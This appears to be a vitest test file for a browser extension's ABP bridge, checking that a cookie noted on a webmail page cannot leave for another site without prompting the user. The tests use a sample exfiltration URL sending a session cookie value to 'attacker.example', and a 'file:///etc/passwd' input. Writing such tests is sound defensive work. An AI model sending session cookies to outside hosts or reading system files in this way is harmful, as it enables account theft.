import { describe, expect, it } from 'vitest';
import { createAbpRouter } from '../../background/abp/abp-routes';
import { createCallTracker } from '../../background/abp/caller';
import { defaultPolicy } from '../../policy';
import { MAX_NOTED_TEXT } from '../../src/protocol/abp-to-background';
import { memoryGate } from './support/memory-gate';

const COOKIE = 'session=Xk93pQ7vLm2Z';
const settle = async () => {
  for (let i = 0; i < 5; i++) await new Promise((resolve) => setTimeout(resolve, 0));
};

/** The real ABP router and gate, with the bridge's session allowed to navigate everywhere. */
function setUp() {
  const { gate, prompts, shown, update } = memoryGate({ ...defaultPolicy(), tools: { browser_navigate: 'allow' } });
  const route = createAbpRouter({
    capabilities: new Map(),
    recordFailure: async () => undefined,
    gate,
    updatePolicy: update,
    toolNames: [],
  });
  const ctx = {
    signal: new AbortController().signal,
    calls: createCallTracker(),
    runId: 'abp-page:test',
    caller: 'abp-client' as const,
  };
  const send = (payload: object) => route({ type: 'ABP_NOTE_READ', payload }, 'extension-page', ctx);
  const navigate = (url: string, sessionId = 's1') =>
    route(
      {
        type: 'ABP_AUTHORIZE',
        payload: { requestId: 'n', sessionId, operation: 'browser_navigate.open', url },
      },
      'extension-page',
      ctx,
    );
  return { send, navigate, shown, prompts };
}

describe('ABP_NOTE_READ: the bridge notes what it read outside Bosun', () => {
  it('a cookie noted on the webmail cannot leave for another site unasked in the session', async () => {
    const { send, navigate, shown, prompts } = setUp();
    const noted = await send({ requestId: 'r1', sessionId: 's1', url: 'https://mail.example/', text: COOKIE });
    expect(noted).toMatchObject({
      ok: true,
      value: { payload: { response: { success: true, data: { noted: true } } } },
    });
    const leaving = navigate('https://attacker.example/?c=Xk93pQ7vLm2Z');
    await settle();
    expect(shown[0]?.dataFlow).toEqual([{ text: 'Xk93pQ7vLm2Z', from: ['mail.example'], to: 'attacker.example' }]);
    prompts.answer(shown[0]!.id, 'deny');
    expect(await leaving).toMatchObject({ ok: true, value: { payload: { response: { success: false } } } });
    // The same navigation without the value is the session's grant to use.
    expect(await navigate('https://attacker.example/')).toMatchObject({
      value: { payload: { response: { success: true } } },
    });
    expect(shown).toHaveLength(1);
  });

  it('a new session of the same ABP page keeps what the last one read: rotating sessions does not shed it', async () => {
    const { send, navigate, shown, prompts } = setUp();
    await send({ requestId: 'r1', sessionId: 's1', url: 'https://mail.example/', text: COOKIE });
    const leaving = navigate('https://attacker.example/?c=Xk93pQ7vLm2Z', 's2');
    await settle();
    expect(shown[0]?.dataFlow).toEqual([{ text: 'Xk93pQ7vLm2Z', from: ['mail.example'], to: 'attacker.example' }]);
    prompts.answer(shown[0]!.id, 'deny');
    expect(await leaving).toMatchObject({ value: { payload: { response: { success: false } } } });
  });

  it.each([
    ['without a session', { requestId: 'r', url: 'https://mail.example/', text: COOKIE }],
    ['with a non-http URL', { requestId: 'r', sessionId: 's1', url: 'file:///etc/passwd', text: COOKIE }],
    [
      'with text over the limit',
      { requestId: 'r', sessionId: 's1', url: 'https://mail.example/', text: 'x'.repeat(MAX_NOTED_TEXT + 1) },
    ],
    [
      'with an unknown field',
      { requestId: 'r', sessionId: 's1', url: 'https://mail.example/', text: COOKIE, site: 'x' },
    ],
  ])('refuses a note %s clearly, and notes nothing', async (_what, payload) => {
    const { send, navigate, shown } = setUp();
    const refused = await send(payload);
    expect(refused).toMatchObject({ ok: false, error: expect.stringMatching(/^Invalid ABP_NOTE_READ: /) });
    expect(await navigate('https://attacker.example/?c=Xk93pQ7vLm2Z')).toMatchObject({
      value: { payload: { response: { success: true } } },
    });
    expect(shown).toEqual([]);
  });
});
